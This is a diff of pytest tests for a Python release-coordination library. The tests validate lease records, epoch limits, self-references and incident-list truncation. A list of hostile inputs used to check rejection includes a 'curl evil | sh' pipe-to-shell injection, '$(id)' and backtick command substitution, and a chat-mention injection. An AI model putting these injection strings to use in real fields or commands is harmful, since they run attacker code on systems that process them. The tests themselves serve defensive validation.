@@ -5,6 +5,7 @@ from typing import Any
 
 import pytest
 
+from playbook.lease.lease import EPOCH_MAX, next_epoch
 from playbook.lease.record import SIGNATURE, Participant, Record, Unreadable
 from playbook.release.promotion import Promotion
 from playbook.release.traffic import TrafficSplit
@@ -44,10 +45,51 @@ def test_a_record_that_cannot_be_true_says_why(a_lease: Made) -> None:
     assert Record(epoch=100, lease=lease).problems(OTHER) == ["the lease is that of another service"]
 
 
+HOSTILE = ["x\n<!channel>", "x; curl evil | sh", "$(id)", "`id`", "x" * 301, ""]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_name_that_a_chat_or_a_shell_would_obey_is_none(a_lease: Made, text: str) -> None:
+    """Wherever a record holds one; the problem is told without a word of it."""
+    lease, points = a_lease(), POINTS.model_copy
+    records = {
+        "its release has no name of ours": Record(epoch=100, lease=lease.model_copy(update={"version": text})),
+        "a name in what it points to is none of ours": Record(
+            epoch=100, participant=points(update={"release_id": text})
+        ),
+        "an incident has no name of ours": Record(incidents=(text,)),
+    }
+    for problem, record in records.items():
+        assert record.problems(LEAD if record.lease else OTHER) == [problem]
+    there = points(update={"split": TrafficSplit.all_to(text)})
+    assert len(Record(epoch=100, participant=there).problems(OTHER)) == 1
+
+
+def test_an_epoch_leaves_room_for_those_to_come() -> None:
+    """One of the far future on one service would end every release of the environment with an epoch that is none."""
+    found = Record.parse(LEAD, {"playbook.ethixai.com/epoch": "99999999999"})
+    assert isinstance(found, Unreadable)
+    assert "leaves no room" in found.problem
+    assert Record.parse(LEAD, {"playbook.ethixai.com/epoch": str(EPOCH_MAX)}) == Record(epoch=EPOCH_MAX)
+    assert Record(epoch=next_epoch(EPOCH_MAX, 0)).epoch == EPOCH_MAX + 1
+
+
+def test_a_service_does_not_point_to_itself() -> None:
+    """What points to the coordinator's lease is another service."""
+    assert Record(epoch=100, participant=POINTS).problems(LEAD) == ["it points to itself"]
+
+
+def test_no_more_is_read_than_is_kept() -> None:
+    """Thirty thousand incidents would be thirty thousand pages to resolve."""
+    found = Record.parse(LEAD, {"playbook.ethixai.com/incidents": ",".join(f"v-{n}" for n in range(5_000))})
+    assert isinstance(found, Record)
+    assert found.incidents == tuple(f"v-{n}" for n in range(4_990, 5_000))
+
+
 @pytest.mark.parametrize(("length", "is_read"), [(64_000, True), (64_001, False)])
 def test_an_annotation_has_a_longest_length(length: int, is_read: bool) -> None:
     """Longer ones are set aside before they are read."""
-    found = Record.parse(LEAD, {"playbook.ethixai.com/incidents": "x" * length})
+    found = Record.parse(LEAD, {"playbook.ethixai.com/of-a-later-version": "x" * length})
     assert isinstance(found, Record) is is_read
     if isinstance(found, Unreadable):
         assert found.problem.endswith("is longer than 64000 characters")
